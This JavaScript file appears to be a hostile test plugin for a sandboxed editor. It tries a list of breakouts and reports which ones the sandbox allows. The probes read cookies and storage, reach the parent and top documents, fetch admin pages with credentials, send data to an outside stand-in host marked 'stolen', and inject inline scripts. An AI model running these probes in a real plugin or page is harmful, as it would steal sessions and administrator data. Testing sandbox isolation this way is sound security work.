// Each attack says what it got; the page is told of all of them as a document.
"use strict";

const attacks = {
  cookies: () => document.cookie,
  storage: () => localStorage.getItem("any") ?? "read",
  session: () => sessionStorage.length,
  database: () => indexedDB.open("any").readyState,
  parent: () => parent.document.title,
  form: () => parent.document.forms.length,
  top: () => ((top.location.href = "/admin/plugins"), "left"),
  outermost: () => top.document.cookie,
  opened: () => open("/admin/people").name,
  fetched: () => fetch("/admin/entries", { credentials: "include" }).then((answer) => answer.text()),
  outside: () => fetch("https://example.org/?stolen"),
  // Browsers say that they took it, and tell of the policy afterwards.
  beacon: () =>
    new Promise((done, failed) => {
      addEventListener("securitypolicyviolation", () => failed(new Error("refused")), { once: true });
      navigator.sendBeacon("/admin/entries", "x");
      setTimeout(() => done("sent"), 5000);
    }),
  request: () =>
    new Promise((done, failed) => {
      const request = new XMLHttpRequest();
      request.onload = () => done(request.responseText);
      request.onerror = () => failed(new Error("refused"));
      request.open("GET", "/admin/entries");
      request.send();
    }),
  socket: () =>
    new Promise((done, failed) => {
      const socket = new WebSocket("wss://example.org/");
      socket.onopen = () => done("open");
      socket.onerror = () => failed(new Error("refused"));
    }),
  picture: () =>
    new Promise((done, failed) => {
      const picture = new Image();
      picture.onload = () => done("loaded");
      picture.onerror = () => failed(new Error("refused"));
      picture.src = "https://example.org/?stolen";
    }),
  script: () =>
    new Promise((done, failed) => {
      const script = document.createElement("script");
      script.textContent = "window.inline = true";
      document.head.append(script);
      if (window.inline) done("ran");
      else failed(new Error("refused"));
    }),
  evaluated: () => new Function("return 1")(),
};

async function attack(port) {
  const results = {};
  for (const [name, run] of Object.entries(attacks)) {
    try {
      const got = await run();
      results[name] = `REACHED ${String(got).slice(0, 40)}`;
    } catch (error) {
      results[name] = `refused: ${error.name}`;
    }
  }
  port.postMessage({ type: "change", document: JSON.stringify(results), revision: 1 });
}

addEventListener("message", (event) => {
  if (event.data?.type !== "sandpress-editor" || !event.ports[0]) return;
  const [port] = event.ports;
  port.onmessage = (message) => {
    if (message.data.type === "init") attack(port);
  };
  port.postMessage({ type: "ready", version: 1 });
});
